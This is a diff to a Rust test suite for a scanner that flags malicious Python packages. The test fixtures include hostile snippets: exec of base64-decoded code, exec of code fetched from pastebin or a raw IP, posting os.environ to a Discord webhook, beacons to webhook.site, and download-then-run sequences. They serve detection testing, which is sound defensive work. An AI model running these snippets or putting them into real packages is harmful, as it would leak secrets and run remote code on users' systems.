@@ -1,4 +1,6 @@
-use super::{MALICIOUS_PACKAGE_CODE, PackageCode, PackageScript, SUSPICIOUS_PACKAGE_CODE};
+use super::{
+    MALICIOUS_PACKAGE_CODE, PACKAGE_CAPABILITY, PackageCode, PackageScript, SUSPICIOUS_PACKAGE_CODE,
+};
 use crate::{Subject, distribution::DistributionFacts, testing::findings};
 use std::{collections::BTreeMap, sync::Arc};
 use wellhead_core::{ArtifactPath, Budget, Finding};
@@ -112,7 +114,13 @@ fn what_another_file_imports_runs_with_it() {
         ]),
         "critical"
     );
-    assert_eq!(worst(&[("acme/__init__.py", ""), ("acme/_x.py", payload)]), "");
+    // Nothing imports it, and whoever does runs it.
+    assert_eq!(
+        worst(&[("acme/__init__.py", ""), ("acme/_x.py", payload)]),
+        "critical"
+    );
+    let innocent = "import base64\ndef load(s):\n    exec(base64.b64decode(s))\n";
+    assert_eq!(worst(&[("acme/__init__.py", ""), ("acme/_x.py", innocent)]), "");
     assert_eq!(
         worst(&[("setup.py", "import helper\n"), ("tools/helper.py", payload)]),
         ""
@@ -222,4 +230,101 @@ fn hostile_names_are_quoted_safely() {
     )]);
     assert!(!found.is_empty());
     assert!(found.iter().all(|f| !f.message.contains('\u{1b}')), "{found:?}");
+}
+
+#[test]
+fn what_somebody_has_to_ask_for_is_told_by_its_other_end() {
+    let fetch =
+        |url: &str| format!("import requests\ndef update(url):\n    exec(requests.get({url}).text)\n");
+    for (url, expected) in [
+        // The caller says what is fetched, or the project's own host has it in many versions.
+        ("url", ""),
+        ("f'https://files.acme.example/{url}.py'", ""),
+        ("'https://files.acme.example/x.py'", "medium"),
+        ("'https://pastebin.com/raw/x'", "critical"),
+        ("'http://203.0.113.9/x'", "critical"),
+        ("'http://127.0.0.1:8000/x'", "medium"),
+    ] {
+        let text = fetch(url);
+        assert_eq!(worst(&[("acme/__init__.py", &text)]), expected, "{text}");
+    }
+    for (address, expected) in [
+        ("url", ""),
+        ("'https://discord.com/api/webhooks/123/abc'", "critical"),
+        ("f'https://discord.com/api/webhooks/{url}'", "high"),
+    ] {
+        let text = format!(
+            "import os, requests\ndef send(url):\n    requests.post({address}, json=dict(os.environ))\n"
+        );
+        assert_eq!(worst(&[("acme/__init__.py", &text)]), expected, "{text}");
+    }
+}
+
+#[test]
+fn an_address_that_takes_what_anybody_sends_is_told_nothing_unasked() {
+    let call = "import requests\nrequests.get('https://webhook.site/1-2')\n";
+    assert_eq!(worst(&[("acme/__init__.py", call)]), "critical");
+    assert_eq!(worst(&[("setup.py", call)]), "critical");
+    for innocent in [
+        "HELP = 'send it to https://webhook.site/1-2'\nprint(HELP)\n",
+        "import re\nKNOWN = re.compile('webhook.site')\n",
+        "import requests\ndef f(token):\n    requests.post('https://api.telegram.org/bot' + token)\n",
+    ] {
+        assert_eq!(worst(&[("acme/__init__.py", innocent)]), "", "{innocent}");
+    }
+}
+
+#[test]
+fn a_file_is_followed_by_its_name_from_where_it_is_fetched_to_where_it_is_started() {
+    for (source, expected) in [
+        (
+            "import os, requests\nwith open('m.py', 'wb') as f:\n    f.write(requests.get('https://a.example/m').content)\nos.system('py m.py')\n",
+            "critical",
+        ),
+        (
+            "import os, urllib.request\nurllib.request.urlretrieve('https://a.example/m', 'tool.exe')\nos.system('start tool.exe')\n",
+            "critical",
+        ),
+        // Both stand together, and what is started is something else.
+        (
+            "import os, urllib.request\nurllib.request.urlretrieve('https://a.example/m', 'data.csv')\nos.system('make all')\n",
+            "",
+        ),
+    ] {
+        let found = worst(&[("setup.py", source)]);
+        assert_eq!(found == "critical", expected == "critical", "{source}: {found}");
+    }
+}
+
+#[test]
+fn a_way_through_tests_is_no_way_of_the_package() {
+    let run = "import subprocess\nimport requests\ndef launch(url):\n    open('t', 'wb').write(requests.get(url).content)\n    subprocess.run(['./t'])\n";
+    let tests = "from acme import launch\nlaunch('https://a.example/t')\n";
+    let found = worst(&[("acme/__init__.py", run), ("tests/test_acme.py", tests)]);
+    assert_ne!(found, "critical");
+}
+
+#[test]
+fn a_finding_names_the_digest_of_its_lines_and_says_why() {
+    let one = judge(&[("setup.py", "import base64\nexec(base64.b64decode('aWQ='))\n")]);
+    let two = judge(&[(
+        "setup.py",
+        "# moved\nimport base64\nif True:\n    exec(base64.b64decode('aWQ='))\n",
+    )]);
+    assert!(
+        one[0].properties["snippet"]
+            .as_str()
+            .unwrap()
+            .starts_with("sha256:")
+    );
+    assert_eq!(one[0].properties["snippet"], two[0].properties["snippet"]);
+    let why = "what is run stands in the file only in a form that nobody can read";
+    assert!(one[0].notes.iter().any(|n| n == why), "{:?}", one[0].notes);
+}
+
+#[test]
+fn what_a_package_can_do_is_listed_for_whoever_asks() {
+    assert_eq!(PACKAGE_CAPABILITY.status, wellhead_core::RuleStatus::Preview);
+    let text = "import subprocess\ndef version():\n    return subprocess.run(['git', 'describe'])\n";
+    assert_eq!(worst(&[("acme/__init__.py", text)]), "");
 }
